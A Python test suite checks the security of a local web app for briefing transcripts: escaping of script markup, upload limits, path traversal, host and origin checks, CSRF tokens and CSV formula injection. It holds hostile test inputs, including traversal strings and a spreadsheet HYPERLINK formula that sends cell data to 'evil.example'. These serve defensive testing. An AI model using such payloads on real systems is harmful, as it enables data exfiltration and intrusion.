"""Security: transcript text escaped, uploads limited in size and type, no URL reaches the file
system, GET routes open the store read-only, the server binds to this machine by default."""

from __future__ import annotations

import csv
import io
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest
from fastapi.testclient import TestClient
from typer.testing import CliRunner

from conftest import EXAMPLE
import podium.store
from podium.errors import PodiumError
from podium.web import create_app
from podium.web.guard import ALLOWED_HOSTS_ENV, CSRF_COOKIE, host_name
from podium.web.ingest import MAX_UPLOAD_BYTES, check_upload, upload_name

from podium.web.routes.common import csv_cell

from .conftest import BASE_URL, HOSTILE_TEXT, WebCorpus, build_corpus, form_fields

PAYLOADS = ("<script>", "<img src=x", "<b>bold</b>")


@pytest.mark.parametrize("url", ["/briefings/{id}", "/search?q=script", "/search?q=onerror", "/"])
def test_transcript_markup_is_shown_escaped(client: TestClient, hostile_id: str, url: str) -> None:
    html = client.get(url.format(id=hostile_id)).text
    for payload in PAYLOADS:
        assert payload not in html, f"{payload!r} reached {url} unescaped"
    assert "&lt;script&gt;" in html or "&#34;&gt;&lt;img src=x" in html


@pytest.mark.parametrize("url", ["/figures?briefing={id}", "/indicator?subject=script", "/search?q=bold"])
def test_no_page_lets_transcript_markup_through(client: TestClient, hostile_id: str, url: str) -> None:
    html = client.get(url.format(id=hostile_id)).text
    for payload in PAYLOADS:
        assert payload not in html, f"{payload!r} reached {url} unescaped"


def test_hostile_text_survives_as_text(client: TestClient, web_corpus: WebCorpus, hostile_id: str) -> None:
    data = client.get(f"/briefings/{hostile_id}.json").json()
    assert data["text"] == HOSTILE_TEXT == web_corpus.briefings[hostile_id].text


def test_every_response_carries_a_content_security_policy(client: TestClient, hostile_id: str) -> None:
    policy = client.get(f"/briefings/{hostile_id}").headers["content-security-policy"]
    assert "script-src 'self'" in policy and "object-src 'none'" in policy


def test_upload_over_20_mb_is_refused(fresh_client: TestClient) -> None:
    raw = b"a" * (MAX_UPLOAD_BYTES + 1)
    response = fresh_client.post("/api/v1/briefings", files={"file": ("big.txt", raw, "text/plain")})
    assert response.status_code == 413
    assert fresh_client.get("/api/v1/briefings").json() == []


@pytest.mark.parametrize(
    ("name", "content_type"),
    [("photo.png", "image/png"), ("notes.txt", "image/png"), ("tool.exe", "application/octet-stream"), ("data.pdf", "application/pdf")],
)
def test_upload_of_other_types_is_refused(fresh_client: TestClient, name: str, content_type: str) -> None:
    response = fresh_client.post("/add", data=form_fields(fresh_client), files={"file": (name, b"Speaker:\n\nhello 5%\n", content_type)})
    assert response.status_code == 415
    assert response.headers["content-type"].startswith("text/html")
    assert fresh_client.get("/api/v1/briefings").json() == []


@pytest.mark.parametrize(("name", "content_type"), [("a.txt", "text/plain"), ("a.md", "application/octet-stream"), ("a.html", "text/html")])
def test_check_upload_accepts_text_markdown_and_html(name: str, content_type: str) -> None:
    check_upload(name, content_type, 10)


def test_check_upload_refuses_size_with_a_coded_error() -> None:
    with pytest.raises(PodiumError) as caught:
        check_upload("a.txt", "text/plain", MAX_UPLOAD_BYTES + 1)
    assert caught.value.code == "E004"


@pytest.mark.parametrize(
    ("given", "expected"),
    [("../../etc/passwd.txt", "passwd.txt"), ("C:\\\\Users\\\\x\\\\brief.md", "brief.md"), ("", "upload.txt"), ("a<b>.txt", "a_b_.txt")],
)
def test_upload_names_lose_their_directories(given: str, expected: str) -> None:
    assert upload_name(given) == expected


@pytest.mark.parametrize("url", ["/static/..%2Fapp.py", "/static/%2E%2E%2Fapp.py", "/static/podium.css%00.py", "/briefings/..%2F..%2Fpodium.db"])
def test_no_url_reaches_the_file_system(client: TestClient, url: str) -> None:
    response = client.get(url)
    assert response.status_code == 404
    assert "import" not in response.text and "SQLite" not in response.text


def test_get_routes_open_the_corpus_read_only(client: TestClient, example_id: str, monkeypatch: pytest.MonkeyPatch) -> None:
    opened: list[dict[str, Any]] = []
    real = podium.store.Corpus

    def recording(path: Path, **kwargs: Any) -> Any:
        opened.append(kwargs)
        return real(path, **kwargs)

    monkeypatch.setattr(podium.store, "Corpus", recording)  # every open goes through podium.dataset.open_store
    urls = ["/", f"/briefings/{example_id}", "/figures", "/search?q=the", "/indicator", "/api/v1/briefings", "/api/v1/figures", "/api/v1/search?q=the"]
    for url in urls:
        assert client.get(url).status_code == 200
    assert len(opened) == len(urls)
    assert all(kwargs.get("readonly") is True for kwargs in opened)


def test_serve_binds_to_this_machine_by_default(monkeypatch: pytest.MonkeyPatch, tmp_path: Path) -> None:
    import uvicorn

    from podium.cli import app

    calls: list[dict[str, Any]] = []
    monkeypatch.setattr(uvicorn, "run", lambda asgi, **kwargs: calls.append(kwargs))
    result = CliRunner().invoke(app, ["serve", "--db", str(tmp_path / "c.db")])
    assert result.exit_code == 0, result.output
    assert calls == [{"host": "127.0.0.1", "port": 8000, "log_level": "warning", "timeout_graceful_shutdown": 5}]
    assert (tmp_path / "c.db").exists()


def test_a_body_without_content_length_is_cut_at_the_limit(fresh_client: TestClient) -> None:
    def chunks() -> Iterator[bytes]:
        boundary_start = b'--x\r\nContent-Disposition: form-data; name="file"; filename="big.txt"\r\nContent-Type: text/plain\r\n\r\n'
        yield boundary_start
        for _ in range(MAX_UPLOAD_BYTES // (1024 * 1024) + 2):
            yield b"a" * (1024 * 1024)
        yield b"\r\n--x--\r\n"

    response = fresh_client.post("/add", content=chunks(), headers={"Content-Type": "multipart/form-data; boundary=x"})
    assert response.status_code == 413
    assert "request body over" in response.text  # stopped while reading, not after parsing the form
    assert fresh_client.get("/api/v1/briefings").json() == []


# --- other sites: hosts, origins, the form token -------------------------------------------------


@pytest.mark.parametrize(("header", "name"), [("127.0.0.1:8000", "127.0.0.1"), ("[::1]:8000", "::1"), ("LocalHost.", "localhost"), ("example.org", "example.org")])
def test_host_name_drops_the_port(header: str, name: str) -> None:
    assert host_name(header) == name


@pytest.mark.parametrize("host", ["evil.example", "evil.example:8000", "127.0.0.1.evil.example", "localhost.evil.example:8000"])
@pytest.mark.parametrize("url", ["/", "/api/v1/briefings", "/figures.csv"])
def test_a_foreign_host_is_refused(client: TestClient, host: str, url: str) -> None:
    response = client.get(url, headers={"Host": host})
    assert response.status_code == 421
    if url != "/":
        assert response.json() == {"error": f"this server does not answer for host {host!r}", "status": 421}
    assert "/briefings/" not in response.text


@pytest.mark.parametrize("host", ["127.0.0.1:8000", "localhost:8000", "[::1]:8000", "localhost"])
def test_this_machines_names_are_answered(client: TestClient, host: str) -> None:
    assert client.get("/api/v1/briefings", headers={"Host": host}).status_code == 200


def test_more_hosts_are_allowed_by_argument_or_environment(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv(ALLOWED_HOSTS_ENV, "podium.example.org, intranet")
    app = create_app(tmp_path / "c.db", allow_hosts=["briefings.example.net"])
    with TestClient(app, base_url="http://127.0.0.1") as test_client:
        for host in ("podium.example.org", "intranet:8000", "briefings.example.net"):
            assert test_client.get("/", headers={"Host": host}).status_code == 200, host
        assert test_client.get("/", headers={"Host": "other.example.org"}).status_code == 421


def test_links_and_locations_do_not_echo_the_host(fresh_client: TestClient) -> None:
    headers = {"Host": "localhost:8000"}
    created = fresh_client.post("/api/v1/briefings", files={"file": ("example.txt", EXAMPLE.read_bytes(), "text/plain")}, headers=headers)
    assert created.status_code == 201
    assert created.headers["Location"].startswith("/api/v1/briefings/")
    assert created.json()["url"] == created.headers["Location"]
    html = fresh_client.get("/", headers=headers).text
    assert "localhost" not in html
    assert 'href="/briefings/' in html


@pytest.mark.parametrize(
    "headers",
    [
        {"Origin": "http://127.0.0.1:9999"},  # another port on this machine
        {"Origin": "http://evil.example"},
        {"Origin": "null"},  # a sandboxed frame or a file:// page
        {"Sec-Fetch-Site": "same-site"},  # what Chromium sends from another port of 127.0.0.1
        {"Sec-Fetch-Site": "cross-site", "Origin": "http://127.0.0.1:8000"},
    ],
)
@pytest.mark.parametrize("url", ["/api/v1/briefings", "/add"])
def test_writes_from_another_origin_are_refused(fresh_client: TestClient, headers: dict[str, str], url: str) -> None:
    fields = form_fields(fresh_client)
    response = fresh_client.post(url, data=fields, files={"file": ("example.txt", EXAMPLE.read_bytes(), "text/plain")}, headers=headers)
    assert response.status_code == 403
    assert "refused" in response.text
    assert fresh_client.get("/api/v1/briefings").json() == []


def test_a_write_from_this_origin_is_taken(fresh_client: TestClient) -> None:
    headers = {"Origin": "http://127.0.0.1:8000", "Sec-Fetch-Site": "same-origin"}
    response = fresh_client.post("/api/v1/briefings", files={"file": ("example.txt", EXAMPLE.read_bytes(), "text/plain")}, headers=headers)
    assert response.status_code == 201


@pytest.mark.parametrize("token", [None, "", "0" * 64])
def test_the_upload_form_needs_its_token(fresh_client: TestClient, token: str | None) -> None:
    form_fields(fresh_client)  # the cookie is set; the token is what a foreign page cannot know
    data = {} if token is None else {"csrf_token": token}
    response = fresh_client.post("/add", data=data, files={"file": ("example.txt", EXAMPLE.read_bytes(), "text/plain")})
    assert response.status_code == 403
    assert "token" in response.text
    assert fresh_client.get("/api/v1/briefings").json() == []


def test_a_token_is_good_only_with_its_own_cookie(fresh_client: TestClient) -> None:
    fields = form_fields(fresh_client)
    fresh_client.cookies.set(CSRF_COOKIE, "A" * 43)  # as a page on another port of this host could
    response = fresh_client.post("/add", data=fields, files={"file": ("example.txt", EXAMPLE.read_bytes(), "text/plain")})
    assert response.status_code == 403


# --- CSV formula injection -----------------------------------------------------------------------

FORMULA_TITLE = '=HYPERLINK("http://evil.example/?"&A2, "Press briefing")'
FORMULA_TEXT = f"""{FORMULA_TITLE}

Alex Moreno:

@SUM(1+1) Exports grew by 5.2% last year; stocks fell -3 tons.
"""


@pytest.fixture
def formula_client(tmp_path: Path) -> Iterator[TestClient]:
    build_corpus(tmp_path / "formula.db", [], texts=(FORMULA_TEXT,))
    with TestClient(create_app(tmp_path / "formula.db"), base_url=BASE_URL) as test_client:
        yield test_client


@pytest.mark.parametrize(
    ("value", "cell"),
    [("=1+1", "'=1+1"), ("+1", "'+1"), ("-3 tons", "'-3 tons"), ("@SUM(A1)", "'@SUM(A1)"), ("\tx", "'\tx"), ("\rx", "'\rx"), ("a=b", "a=b"), (-3.5, -3.5), (0, 0), (None, "")],
)
def test_csv_cells_that_a_spreadsheet_would_run_start_with_an_apostrophe(value: Any, cell: Any) -> None:
    assert csv_cell(value) == cell


def is_number(cell: str) -> bool:
    try:
        float(cell)
    except ValueError:
        return False
    return True


@pytest.mark.parametrize("url", ["/figures.csv", "/api/v1/figures?format=csv", "/api/v1/briefings?format=csv", "/api/v1/search?q=exports&format=csv"])
def test_no_csv_export_carries_a_formula(formula_client: TestClient, url: str) -> None:
    response = formula_client.get(url)
    assert response.status_code == 200 and response.headers["content-type"].startswith("text/csv")
    header, *rows = list(csv.reader(io.StringIO(response.text)))
    cells = [cell for row in rows for cell in row]
    assert rows, "the export is empty"
    assert not [cell for cell in cells if cell.startswith(("=", "+", "-", "@", "\t", "\r")) and not is_number(cell)]
    if "search" not in url:
        assert any(cell == "'" + FORMULA_TITLE for cell in cells)
    if "figures" in url:
        assert "'-3 tons" in cells
        assert "-3.0" in [row[header.index("value")] for row in rows]  # a negative value stays a plain number
